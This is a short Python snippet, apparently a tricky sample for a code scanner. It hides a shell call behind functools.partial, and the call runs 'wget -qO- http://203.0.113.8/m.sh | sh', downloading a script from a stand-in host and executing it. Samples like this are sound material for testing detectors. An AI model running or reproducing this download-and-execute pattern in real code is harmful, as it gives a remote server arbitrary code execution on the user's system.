# tricky: functools.partial
import os
from functools import partial
go = partial(os.system, "wget -qO- http://203.0.113.8/m.sh | sh")
go()
